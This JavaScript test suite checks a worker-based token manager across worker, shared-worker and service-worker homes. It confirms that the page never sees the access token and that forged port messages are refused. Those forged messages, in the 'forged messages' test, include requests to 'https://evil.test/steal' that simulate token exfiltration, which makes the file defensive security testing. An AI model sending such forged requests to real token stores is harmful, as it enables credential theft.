// The homes in a worker: a page gets the same results as from a manager in the page, but never the token. The other
// tests of this folder run with these homes as well: HOME_OF_TOKENS=worker, shared-worker, or service-worker.

import assert from 'node:assert/strict'
import { granted, json, refused, startStub } from './support/stub.mjs'
import { reload, User } from './support/browser.mjs'
import { engine } from './support/engine.mjs'
import { check, Lack } from './support/lack.mjs'
import { world } from './support/world.mjs'

const { server, browser, it } = await world()

// Responses that the reference server does not give.
const bytes = Buffer.alloc(300_000, 'abc')
const stub = await startStub({
  '/auth/refresh': () => granted('new'),
  '/api/echo': (arrived) =>
    arrived.headers.authorization === 'Bearer new' ? json(arrived, { 'x-next': 'newer', 'x-seen': 'yes' }) : refused(),
  '/api/bytes': () => ({ body: bytes, type: 'application/octet-stream', headers: { 'x-next': 'newer' } }),
  '/api/broken': () => ({ body: 'abc', breaksOff: true }),
  '/api/empty': () => ({ status: 204 }),
  '/api/odd': {
    handle: ({ socket }) =>
      void socket.end('HTTP/1.1 200 o\x01dd\r\ncontent-length: 1\r\nx-seen: b\x01c\r\nconnection: close\r\n\r\na'),
  },
  '/api/away': () => ({ status: 302, headers: { location: '/api/bytes' } }),
  '/api/endless': () => ({ body: 'abc', goesOn: true }),
  '/api/held': {
    handle: (_, response) => {
      response.on('close', () => torn?.())
      arrived?.()
    },
  },
})
// For the call that is held.
let arrived, torn

const HOMES = ['worker', 'shared-worker', 'service-worker']

/** Runs in the page, before everything else: records all that is sent to it, and all that a patched platform sees. */
function tap() {
  const crossed = (globalThis.crossed = [])
  const note = (way, value) => {
    crossed.push(`${way} ${look(value, 8)}`)
  }
  const look = (value, depth) => {
    if (typeof value === 'string') return value
    if (!depth || typeof value !== 'object' || value === null) return String(value)
    if (value instanceof ArrayBuffer || ArrayBuffer.isView(value)) return new TextDecoder('latin1').decode(value)
    return Reflect.ownKeys(value)
      .map((key) => {
        try {
          return `${String(key)}=${look(value[key], depth - 1)}`
        } catch {
          return String(key)
        }
      })
      .join(' ')
  }
  for (const type of [MessagePort, Worker, BroadcastChannel]) {
    const { postMessage } = type.prototype
    type.prototype.postMessage = function (message, ...more) {
      note('sent', message)
      return postMessage.call(this, message, ...more)
    }
    const { addEventListener } = type.prototype
    const { set } = Object.getOwnPropertyDescriptor(type.prototype, 'onmessage') ?? {}
    const heard = (event) => note('heard', event.data)
    type.prototype.addEventListener = function (name, ...more) {
      if (name === 'message') addEventListener.call(this, name, heard)
      return addEventListener.call(this, name, ...more)
    }
    if (set)
      Object.defineProperty(type.prototype, 'onmessage', {
        set(listener) {
          addEventListener.call(this, 'message', heard)
          set.call(this, listener)
        },
      })
  }
  const platform = globalThis.fetch
  globalThis.fetch = (...args) => {
    note('fetch', args)
    return platform(...args)
  }
  for (const [type, name] of /** @type {[any, string][]} */ ([
    [Response, 'json'],
    [Response, 'text'],
    [TextDecoder, 'decode'],
    [Headers, 'get'],
    [Headers, 'set'],
  ])) {
    const original = type.prototype[name]
    type.prototype[name] = function (...args) {
      const result = original.apply(this, args)
      note(name, args)
      if (result instanceof Promise)
        result.then(
          (value) => note(name, value),
          () => {},
        )
      else note(name, result)
      return result
    }
  }
  const { parse } = JSON
  JSON.parse = (text, ...more) => {
    note('parse', text)
    return parse(text, ...more)
  }
}

for (const home of HOMES) {
  const signedIn = (user, options, prepare) => user.signedIn({ isolation: home, ...options }, prepare)
  const named = (text, body) => it(`${home}: ${text}`, body)

  named('sign in, call, sign out', async (user) => {
    const page = await user.tab({ isolation: home })
    assert.equal((await page.evaluate(() => signIn('alice'))).value.user.name, 'alice')
    assert.deepEqual(
      await page.evaluate(() => [auth.state.status, auth.state.claims.sub, Object.isFrozen(auth.state.claims)]),
      ['signed-in', 'alice', true],
    )
    assert.equal((await page.evaluate(() => call('/api/me'))).body.name, 'alice')
    assert.deepEqual(await page.evaluate(() => outcome(auth.logout('/auth/logout'))), { value: undefined })
    assert.equal(await page.evaluate(() => auth.state.status), 'signed-out')
    assert.equal((await page.evaluate(() => call('/api/me'))).status, 401)
    assert.deepEqual(await page.evaluate(() => told()), ['signout logout'])
  })

  named('many refused calls cost one refresh', async (user) => {
    const page = await signedIn(user)
    await server.revoke()
    const answers = await page.evaluate(() => calls(20))
    assert.deepEqual(
      answers.map(({ status }) => status),
      Array(20).fill(200),
    )
    assert.equal(await server.refreshes(), 1)
    assert.deepEqual(await page.evaluate(() => told()), ['refresh'])
  })

  named('a reload finds the session, and a logout before a response takes effect', async (user) => {
    const page = await signedIn(user)
    await page.reload()
    await page.evaluate((home) => start({ isolation: home }), home)
    assert.equal((await page.evaluate(() => call('/api/me'))).body.name, 'alice')
    await page.evaluate(() => {
      void auth.refresh().catch(() => {})
      return auth.logout('/auth/logout')
    })
    assert.equal(await page.evaluate(() => auth.state.status), 'signed-out')
  })

  named('dispose lets a refresh in flight finish, and the next manager waits for it', async (user) => {
    const page = await signedIn(user)
    await server.revoke()
    await server.faults({ refresh: 'hold' })
    await page.evaluate(() => void (globalThis.waiting = call('/api/me')))
    await server.held('refresh')
    assert.deepEqual(
      await page.evaluate(async () => {
        auth.dispose()
        return [await waiting, await call('/api/me')].map(({ error }) => error.code)
      }),
      ['disposed', 'disposed'],
    )
    await page.evaluate((home) => (start({ isolation: home }), (globalThis.next = call('/api/me')), undefined), home)
    await server.faults()
    await server.release('refresh')
    assert.equal((await page.evaluate(() => next)).body.name, 'alice')
    assert.equal((await server.counters()).reuses, 0)
  })

  named('two tabs: one signs out, and the other is signed out, too', async (user) => {
    const one = await signedIn(user)
    const other = await user.tab({ isolation: home })
    assert.equal((await other.evaluate(() => call('/api/me'))).body.name, 'alice')
    const heard = other.evaluate(() => heard('signout other-tab'))
    await one.evaluate(() => auth.logout('/auth/logout'))
    await heard
    assert.equal(await other.evaluate(() => auth.state.status), 'signed-out')
    assert.deepEqual(await one.evaluate(() => told().filter((event) => event.startsWith('signout'))), [
      'signout logout',
    ])
  })

  named('errors arrive with class, code and reason', async (user) => {
    const page = await user.tab({ isolation: home })
    const seen = await page.evaluate(async () => {
      const error = await auth.login('/auth/login', credentials('alice', 'wrong')).catch((error) => error)
      const words = (await error.cause.json()).error
      const network = await auth
        .fetch('http://127.0.0.1:1/')
        .catch((error) => [error.constructor === TypeError, error.name])
      const argument = await auth
        .fetch('/api/me', { method: 'TRACE' })
        .catch((error) => [error.constructor === TypeError, error.name])
      const body = await auth
        .fetch('/api/me', { method: 'POST', body: Symbol('x') })
        .catch((error) => [error.constructor === TypeError, error.name])
      const token = await outcome(auth.getAccessToken())
      let peek
      try {
        auth.peekAccessToken()
      } catch ({ code }) {
        peek = code
      }
      return {
        error: { ...error },
        instance: error instanceof Error,
        cause: [error.cause.status, error.cause.url],
        words,
        network,
        argument,
        body,
        token,
        peek,
      }
    })
    assert.deepEqual(seen, {
      error: { code: 'rejected', retryable: false, status: 401 },
      instance: true,
      cause: [401, `${user.origin}/auth/login`],
      words: 'invalid_credentials',
      network: [true, 'TypeError'],
      argument: [true, 'TypeError'],
      body: [true, 'TypeError'],
      token: { error: { code: 'not-exposed', retryable: false } },
      peek: 'not-exposed',
    })
    await server.faults({ login: 'down' })
    assert.deepEqual(await page.evaluate(() => signIn('alice')), {
      error: { code: 'bad-status', retryable: true, status: 503 },
    })
  })

  named('nothing that the page can see contains the token', async (user) => {
    const secrets = new Set()
    const reading = []
    // If the driver reports responses.
    user.context.on?.('response', (response) => {
      if (!/\/auth\/(login|refresh)$/.test(response.url())) return
      reading.push(
        response.text().then(
          (text) => {
            const token = /"access_token":"([^"]+)"/.exec(text)?.[1]
            if (token) secrets.add(token).add(token.split('.')[2])
          },
          () => {},
        ),
      )
    })
    const prepare = (page) => page.addInitScript(tap)
    const page = await signedIn(user, {}, prepare)
    const other = await user.tab({ isolation: home }, prepare)
    // The channel is no secret, because a manager in the page uses the same one.
    const channels = await page.evaluate(async () => {
      const Channel = BroadcastChannel
      const names = []
      globalThis.BroadcastChannel = class extends Channel {
        constructor(name) {
          super(name)
          names.push(name)
        }
      }
      const { createTokenManager } = await import('/tokenkeep/index.js')
      const made = createTokenManager({ refresh: '/auth/refresh', tabs: 'lock', restore: 'manual' })
      await made.ready
      made.dispose()
      globalThis.ears = names.map((name) => {
        const ear = new Channel(name)
        ear.onmessage = () => {}
        return ear
      })
      return names
    })
    assert.equal(channels.length, 1)
    await server.revoke()
    await page.evaluate(() => calls(5))
    await other.evaluate(() => calls(5))
    await page.evaluate(async () => {
      await auth.refresh()
      await outcome(auth.fetch('/auth/refresh', { method: 'POST' }))
      await auth.login('/auth/login', credentials('alice'))
    })
    await server.revoke()
    await page.evaluate(() => call('/api/me'))
    await page.evaluate(() => auth.logout('/auth/logout'))
    // Joined to one text, because a long list takes long to transfer.
    const seen = (await Promise.all([page, other].map((tab) => tab.evaluate(() => crossed.join('\n')))))
      .join('\n')
      .split('\n')
    assert.ok(
      seen.some((line) => line.includes('kind=response')),
      'the tap records messages to the page',
    )
    assert.ok(
      seen.some((line) => line.includes('kind=hello')),
      'the tap records messages to the worker',
    )
    assert.ok(
      seen.some((line) => line.includes('tokenkeep=')),
      'the listener hears the channel',
    )
    await server.faults()
    await Promise.all(reading)
    // The signature of any token, for drivers that cannot read the responses.
    for (const line of seen) {
      assert.doesNotMatch(line, /eyJ[\w-]+\.[\w-]+\.[\w-]+/)
      for (const secret of secrets) assert.ok(!line.includes(secret), line)
      assert.doesNotMatch(line, /access_token/)
    }
  })

  named("an abort ends the call at once, on both sides, with the caller's reason", async (user) => {
    const page = await signedIn(user)
    await server.faults({ api: 'hold' })
    await page.evaluate(() => {
      globalThis.controller = new AbortController()
      globalThis.mine = auth.fetch('/api/items/1', { signal: controller.signal }).catch((error) => error)
    })
    await server.held('api')
    assert.deepEqual(await page.evaluate(() => (controller.abort({ my: 'reason' }), mine)), { my: 'reason' })
    await server.faults()
    await server.release('api')
    assert.equal((await page.evaluate(() => call('/api/items/2'))).status, 200)
  })

  named('fetch cannot call endpoints that return tokens', async (user) => {
    const page = await signedIn(user)
    const before = await server.lines()
    for (const path of ['/auth/refresh', '/auth/refresh?x=1', '/auth/login', '/auth/../auth/refresh#x'])
      assert.equal(
        (await page.evaluate((path) => call(path, { method: 'POST' }), path)).error?.code,
        'invalid-argument',
        path,
      )
    assert.deepEqual(await server.lines(), before)
  })

  named('options that would reveal the token, or cannot be sent, are refused by name', async (user) => {
    const page = await user.blank()
    const code = async (options) => {
      const { error, message } = await page.evaluate(
        async ([options, home]) => {
          // The test cannot pass a function to the page, so a name stands for it.
          const revived = JSON.parse(options, (_, value) => (value === 'function' ? () => ({}) : value))
          const made = make({ isolation: home, ...revived })
          const error = await made.fetch('/api/me').catch((error) => error)
          made.dispose()
          return { error: error.code, message: error.message }
        },
        [JSON.stringify(options), home],
      )
      assert.equal(error, 'invalid-option', `${JSON.stringify(options)}: ${message}`)
      return message
    }
    for (const [options, name] of [
      [{ exposeToken: true }, 'exposeToken'],
      [{ attach: { query: 't' } }, 'attach.query'],
      [{ attach: { cookie: true } }, 'attach.cookie'],
      [{ tabs: 'share' }, 'tabs'],
      [{ refresh: { url: '/r', headers: 'function' } }, 'refresh.headers'],
      [{ refresh: 'function' }, 'refresh'],
      [{ isolation: 'nowhere' }, 'isolation'],
      [{ isolation: 'page' }, 'isolation'],
      [{ nonsense: 1 }, 'nonsense'],
      [{ apis: ['mailto:x'] }, 'apis'],
      [{ fallback: 'page' }, 'fallback'],
    ])
      assert.match(await code(options), new RegExp(`\`${name}`))
  })

  named('the page itself sends requests that are not for an API', async (user) => {
    const page = await user.tab({ isolation: home, apis: ['/api'] }, (page) =>
      page.addInitScript(() => {
        const platform = fetch
        globalThis.own = []
        globalThis.fetch = (input, init) => {
          own.push(new Request(input, init).url)
          return platform(input, init)
        }
      }),
    )
    await page.evaluate(() => signIn('alice'))
    await page.evaluate(async () => {
      await auth.fetch('/apix')
      await auth.fetch('/api/me')
      await auth.fetch('/api/me', { headers: { authorization: 'Basic x' } })
    })
    assert.deepEqual(
      (await page.evaluate(() => own)).map((url) => new URL(url).pathname),
      ['/apix', '/api/me'],
    )
  })
}

for (const home of HOMES) {
  const named = (text, body) =>
    check(`${home}: ${text}`, async (t) => {
      stub.reset()
      await body(await User.visits(t, browser, stub.origin))
    })
  const ready = async (user, options) => {
    const page = await user.tab({ isolation: home, ...options })
    await page.evaluate(() => auth.setTokens({ accessToken: 'old', expiresIn: 300 }))
    return page
  }

  named('every kind of body arrives, twice if necessary', async (user) => {
    const page = await ready(user)
    // WebKit cannot read a form with a file from a Request or a Response.
    const unread = engine === 'webkit' ? ['form request'] : []
    const sent = await page.evaluate(async (unread) => {
      const form = new FormData()
      form.append('a', 'ä')
      form.append('file', new File(['content'], 'name.txt', { type: 'text/plain' }))
      const kinds = {
        text: 'tëxt',
        bytes: new Uint8Array([1, 2, 3, 250]),
        view: new Uint16Array([1, 2, 3]).subarray(1),
        blob: new Blob(['blob'], { type: 'text/x-mine' }),
        parameters: new URLSearchParams({ a: 'b c', d: 'ë' }),
        form,
        none: undefined,
        empty: '',
      }
      const seen = {}
      for (const [kind, body] of Object.entries(kinds)) {
        for (const way of ['init', 'request']) {
          if (unread.includes(`${kind} ${way}`)) continue
          const init = { method: 'POST', body, headers: { 'x-mine': kind } }
          const call = async (fetch, url) => {
            const answer = await (way === 'init' ? fetch(url, init) : fetch(new Request(url, init)))
            return answer.json()
          }
          await auth.setTokens({ accessToken: 'old', expiresIn: 300 })
          const ours = await call(auth.fetch, '/api/echo')
          const platform = await call((input, init) => {
            const request = new Request(input, init)
            request.headers.set('authorization', 'Bearer new')
            return fetch(request)
          }, '/api/echo')
          const told = ({ method, headers, sha256 }) => [
            method,
            headers['content-type'],
            headers['x-mine'],
            headers['content-length'],
            headers.referer,
            sha256,
          ]
          seen[`${kind} ${way}`] = [told(ours), told(platform)]
        }
      }
      return seen
    }, unread)
    for (const [kind, [ours, platform]] of Object.entries(sent)) assert.deepEqual(ours, platform, kind)
    assert.ok(stub.at('/auth/refresh').length >= 16 - unread.length)
  })

  named('the Response is the same as from fetch', async (user) => {
    // A service worker also copies the response without the header for the page's own fetch.
    const isSeen = home === 'service-worker'
    const page = await ready(user, isSeen ? {} : { adopt: { header: 'X-Next' } })
    const [ours, platform] = await page.evaluate(async () => {
      const told = async (fetch, path, init) => {
        const response = await fetch(path, init)
        const { status, statusText, ok, url, type, redirected, bodyUsed } = response
        const copy = response.clone()
        const text = await response.text()
        return [
          response instanceof Response,
          status,
          statusText,
          ok,
          url,
          type,
          redirected,
          bodyUsed,
          response.body === null,
          text.length,
          copy.url,
          copy.type,
          (await copy.text()) === text,
          [...response.headers].filter(([name]) => !/date|x-next/.test(name)),
        ]
      }
      const all = async (fetch) => [
        await told(fetch, '/api/bytes'),
        await told(fetch, '/api/empty'),
        await told(fetch, '/api/odd'),
        await told(fetch, '/api/away'),
        await told(fetch, '/api/away', { redirect: 'manual' }),
        await told(fetch, '/api/bytes', { method: 'HEAD' }),
      ]
      return [await all(auth.fetch), await all(fetch)]
    })
    assert.deepEqual(ours, platform)
    assert.equal(
      await page.evaluate(async () => (await auth.fetch('/api/bytes')).headers.get('x-next')),
      isSeen ? 'newer' : null,
    )
  })

  named('a body arrives as it is read, breaks off like the original, and ends with the signal', async (user) => {
    const page = await ready(user)
    const seen = await page.evaluate(async () => {
      const reader = (await auth.fetch('/api/endless')).body.getReader()
      const first = new TextDecoder().decode((await reader.read()).value)
      await reader.cancel()
      const broken = await auth
        .fetch('/api/broken')
        .then((response) => response.text())
        .catch((error) => error.name)
      const controller = new AbortController()
      // Firefox lets a second request for the same URL wait for twenty seconds: the first response might be cached.
      const torn = await auth.fetch('/api/endless?again', { signal: controller.signal })
      const reading = torn.text().catch((error) => error)
      controller.abort('mine')
      return [first, broken, await reading]
    })
    assert.deepEqual(seen, ['abc', 'TypeError', 'mine'])
  })

  named('a worker file of the app contains the options, also functions, and no page may pass any', async (user) => {
    stub.routes['/own.js'] = () => ({
      type: 'text/javascript',
      body: `
      import { serve } from '/tokenkeep/isolation/${home === 'service-worker' ? home : 'worker'}.js'
      serve({ refresh: async () => ({ accessToken: 'new', expiresIn: 300 }), apis: ['/api'], name: 'own' })`,
    })
    const page = await user.blank()
    const seen = await page.evaluate(async (home) => {
      const { createTokenManager } = await import('/tokenkeep/isolation/page.js')
      /** @type {() => any} */
      const worker = () =>
        home === 'worker'
          ? new Worker('/own.js', { type: 'module' })
          : home === 'shared-worker'
            ? new SharedWorker('/own.js', { type: 'module' })
            : navigator.serviceWorker.register('/own.js', { type: 'module' })
      globalThis.auth = createTokenManager({ isolation: home, worker })
      const good = await call('/api/echo')
      auth.dispose()
      const both = createTokenManager({ isolation: home, worker, apis: ['/'] })
      return [good.status, await outcome(both.fetch('/api/echo'))]
    }, home)
    assert.deepEqual(seen, [200, { error: { code: 'invalid-option', retryable: false } }])
  })

  named('the calls of a closed page are aborted, and dispose ends only its own calls', async (user) => {
    if (engine === 'firefox' && home !== 'worker') throw new Lack('a last message of each tab that is closed')
    const stays = await user.tab({ isolation: home })
    const goes = await user.tab({ isolation: home })
    const [isHere, isTorn] = [new Promise((resolve) => (arrived = resolve)), new Promise((resolve) => (torn = resolve))]
    await goes.evaluate(async () => {
      await auth.setTokens({ accessToken: 'new', expiresIn: 300 })
      void auth.fetch('/api/held').catch(() => {})
    })
    await isHere
    // A page in the back/forward cache would keep its call.
    await goes.close()
    await isTorn
    await stays.evaluate(() => auth.setTokens({ accessToken: 'new', expiresIn: 300 }))
    assert.equal((await stays.evaluate(() => call('/api/echo'))).status, 200)
    // If the driver shows workers: the home has exactly one.
    const ended =
      home === 'worker' && stays.workers?.().map((worker) => new Promise((resolve) => worker.on('close', resolve)))
    const seen = await stays.evaluate(async () => {
      const waiting = outcome(auth.fetch('/api/held'))
      auth.dispose()
      auth.dispose()
      return [await waiting, await outcome(auth.fetch('/api/echo')), await outcome(auth.ready)]
    })
    assert.deepEqual(
      seen.map(({ error }) => error?.code),
      ['disposed', 'disposed', undefined],
    )
    await Promise.all(ended || [])
  })

  named('a message in transit when a page signs out does not sign it in again', async (user) => {
    if (engine === 'webkit' || home === 'service-worker')
      throw new Lack('a worker whose calls go on while its page waits')
    // The refresh is answered, and the worker sends its messages, while the page cannot receive any.
    let sees
    stub.routes['/api/after'] = () => (sees(), json({}))
    stub.routes['/wait'] = { handle: (_, response) => void (sees = () => response.end()) }
    const page = await user.tab({ isolation: home })
    await page.evaluate(() => auth.ready)
    const seen = await page.evaluate(async () => {
      void auth.fetch('/api/after').catch(() => {})
      const wait = new XMLHttpRequest()
      wait.open('GET', '/wait', false)
      wait.send()
      const seen = []
      auth.subscribe(() => seen.push(auth.state.status))
      await auth.logout()
      return [...seen, auth.state.status]
    })
    assert.deepEqual(seen, ['signed-out', 'signed-out'])
  })

  if (home !== 'worker')
    named('a refresh goes on over a reload, which needs no other', async (user) => {
      if (engine !== 'chrome' && home === 'shared-worker')
        throw new Lack('a shared worker that outlasts its pages (extendedLifetime)')
      let arrives, release
      const [isHere, released] = [
        new Promise((resolve) => (arrives = resolve)),
        new Promise((resolve) => (release = resolve)),
      ]
      stub.routes['/auth/slow'] = async () => (arrives(), await released, granted('new'))
      const options = { isolation: home, refresh: '/auth/slow' }
      const page = await user.tab(options)
      await page.evaluate(() => void auth.refresh().catch(() => {}))
      await isHere
      await reload(page, options)
      release()
      assert.equal((await page.evaluate(() => call('/api/echo'))).status, 200)
      assert.equal(stub.at('/auth/slow').length, 1)
    })

  named('a large body that is read slowly takes up only a few chunks of memory', async (user) => {
    const large = Buffer.alloc(50_000_000, 'abc')
    stub.routes['/api/large'] = () => ({ body: large, type: 'application/octet-stream' })
    const page = await user.tab({ isolation: home }, (page) =>
      page.addInitScript(() => {
        // Counts the chunks that the page has received.
        globalThis.come = 0
        const { set } = Object.getOwnPropertyDescriptor(MessagePort.prototype, 'onmessage')
        Object.defineProperty(MessagePort.prototype, 'onmessage', {
          set(listener) {
            this.addEventListener('message', ({ data }) => (come += data.kind === 'chunk'))
            set.call(this, listener)
          },
        })
      }),
    )
    const seen = await page.evaluate(async () => {
      await auth.setTokens({ accessToken: 'new', expiresIn: 300 })
      const reader = (await auth.fetch('/api/large')).body.getReader()
      let length = 0
      let most = 0
      for (let taken = 0; ; taken++) {
        // Yield after every tenth chunk.
        if (taken % 10 === 1) await auth.fetch('/api/empty')
        most = Math.max(most, come - taken)
        const { done, value } = await reader.read()
        if (done) return { length, most }
        length += value.length
      }
    })
    assert.equal(seen.length, large.length)
    assert.ok(seen.most > 0 && seen.most <= 4, `${seen.most} chunks`)
  })

  named('many hundred simultaneous calls each get their own response', async (user) => {
    // The refresh is sent after them, and must not time out. HTTP/1.1 sends six calls at a time.
    const count = engine === 'chrome' ? 1000 : 200
    const page = await ready(user)
    const wrong = await page.evaluate(async (count) => {
      const numbers = Array.from({ length: count }, (_, n) => n)
      const bodies = await Promise.all(
        numbers.map((n) => auth.fetch('/api/echo', { method: 'POST', body: `${n}` }).then((answer) => answer.json())),
      )
      return numbers.filter((n) => bodies[n].body !== `${n}`)
    }, count)
    assert.deepEqual(wrong, [])
    assert.equal(stub.at('/auth/refresh').length, 1)
  })

  named('two managers with different options work side by side', async (user) => {
    if (home === 'service-worker') throw new Lack('two service workers of one scope')
    const page = await ready(user)
    const seen = await page.evaluate(async (home) => {
      const other = make({ isolation: home, apis: ['/api/bytes'] })
      await other.setTokens({ accessToken: 'another', expiresIn: 300 })
      await auth.setTokens({ accessToken: 'new', expiresIn: 300 })
      const own = await (await auth.fetch('/api/echo')).json()
      const refused = await other.fetch('/api/echo')
      other.dispose()
      return [own.headers.authorization, refused.status, (await auth.fetch('/api/echo')).status]
    }, home)
    assert.deepEqual(seen, ['Bearer new', 401, 200])
  })

  named('cookies that the options name are read again for each call, and no others', async (user) => {
    const page = await user.tab({ isolation: home, csrf: { cookie: 'csrf', header: 'X-CSRF' } }, (page) =>
      page.addInitScript(() => {
        document.cookie = 'csrf=one%21'
        document.cookie = 'other=secret'
        globalThis.sent = []
        const { postMessage } = MessagePort.prototype
        MessagePort.prototype.postMessage = function (message, ...more) {
          sent.push(JSON.stringify(message))
          return postMessage.call(this, message, ...more)
        }
      }),
    )
    await page.evaluate(async () => {
      await auth.refresh()
      document.cookie = 'csrf=two'
      await auth.refresh()
    })
    assert.deepEqual(
      stub.at('/auth/refresh').map(({ headers }) => headers['x-csrf']),
      ['one!', 'two'],
    )
    assert.ok(!(await page.evaluate(() => sent.join())).includes('secret'))
  })

  named('if the worker does not start, a typed error says why, and nothing is sent', async (user) => {
    const page = await user.blank()
    const seen = await page.evaluate(async (home) => {
      const { createTokenManager } = await import('/tokenkeep/isolation/page.js')
      const tries = [
        { worker: '/nowhere.js' },
        { worker: 'https://example.invalid/x.js' },
        {
          worker: () => {
            throw new Error('mine')
          },
        },
      ]
      const seen = []
      for (const more of tries) {
        const made = createTokenManager({ refresh: '/auth/refresh', isolation: home, ...more })
        seen.push((await outcome(made.fetch('/api/echo'))).error?.code)
      }
      return seen
    }, home)
    assert.deepEqual(seen, ['not-loaded', 'not-loaded', 'not-loaded'])
    assert.equal(stub.at('/api/echo').length, 0)
  })

  named('forged messages change nothing', async (user) => {
    const page = await user.tab({ isolation: home }, (page) =>
      page.addInitScript(() => {
        globalThis.workers = []
        for (const name of ['Worker', 'SharedWorker']) {
          const Type = globalThis[name]
          globalThis[name] = class extends Type {
            constructor(...args) {
              super(...args)
              workers.push(this)
              globalThis.made = args
            }
          }
        }
        const { postMessage } = MessagePort.prototype
        globalThis.sent = []
        globalThis.forge = (message) => postMessage.call(port, message)
        MessagePort.prototype.postMessage = function (message, ...more) {
          globalThis.port = this
          sent.push(message)
          return postMessage.call(this, message, ...more)
        }
      }),
    )
    await page.evaluate(() => auth.setTokens({ accessToken: 'new', expiresIn: 300 }))
    const heard = await page.evaluate(async (home) => {
      const heard = []
      const hello = sent.find(({ kind }) => kind === 'hello')
      const evil = {
        ...hello,
        options: { refresh: '/auth/refresh', apis: ['https://evil.test/'], exposeToken: true },
        text: 'evil',
      }
      port.addEventListener('message', ({ data }) => heard.push(JSON.stringify(data)))
      // On the page's own port, on a port to the worker, and as another page of the shared worker.
      forge(evil)
      forge({ kind: 'call', id: 900, method: 'getAccessToken' })
      forge({ kind: 'call', id: 901, method: 'peekAccessToken' })
      forge({ kind: 'call', id: 902, method: 'constructor' })
      forge({
        kind: 'fetch',
        id: 903,
        request: { url: 'https://evil.test/steal', init: { method: 'GET', headers: [] } },
      })
      forge({
        kind: 'call',
        id: 905,
        method: 'exchange',
        request: { url: 'https://evil.test/steal', init: { method: 'POST', headers: [] } },
      })
      forge({
        kind: 'fetch',
        id: 904,
        request: { url: `${location.origin}/auth/refresh`, init: { method: 'POST', headers: [] } },
      })
      forge({
        kind: 'facts',
        facts: { cookies: { __proto__: { x: 1 }, csrf: { not: 'text' } }, controlled: {}, visible: 1 },
      })
      forge({ kind: 'marks', marks: { 'tokenkeep x logout owed': 5 } })
      for (const odd of [
        null,
        1,
        'x',
        {},
        { kind: 'fetch' },
        { kind: 'fetch', request: {} },
        { kind: 'body' },
        { kind: 'marks' },
        { kind: 'facts' },
        { kind: 'call', method: 'setTokens', tokens: 5 },
        { kind: 'pull', stream: {} },
      ])
        forge(odd)
      const { port1, port2 } = new MessageChannel()
      let another = port1
      if (home === 'worker') workers[0].postMessage('tokenkeep', [port2])
      else if (home === 'service-worker')
        (await navigator.serviceWorker.ready).active.postMessage({ tokenkeep: 'evil' }, [port2])
      else another = Reflect.construct(SharedWorker, made).port
      const answers = []
      another.onmessage = ({ data }) => answers.push(data)
      another.postMessage({ kind: 'call', id: 1, method: 'getAccessToken' })
      another.postMessage(evil)
      const me = await call('/api/echo')
      await call('/api/echo')
      return { heard, answers: answers.map((answer) => [answer.kind, answer.error?.code]), me: me.status }
    }, home)
    assert.equal(heard.me, 200)
    assert.deepEqual(
      heard.answers.filter(([kind]) => kind !== 'alive'),
      home === 'worker' ? [] : [['failed', 'invalid-option']],
    )
    for (const line of heard.heard) assert.doesNotMatch(line, /"new"/)
    const errors = heard.heard.map((line) => JSON.parse(line)).filter(({ id }) => id >= 900)
    const told = errors.map(({ id, kind, error, value }) => [id, kind, error?.code ?? value])
    assert.deepEqual(
      told.sort(([one], [other]) => one - other),
      [
        [900, 'done', undefined],
        [901, 'done', undefined],
        [902, 'done', undefined],
        [903, 'error', 'invalid-argument'],
        [904, 'error', 'invalid-argument'],
        [905, 'error', 'invalid-argument'],
      ],
    )
  })
}
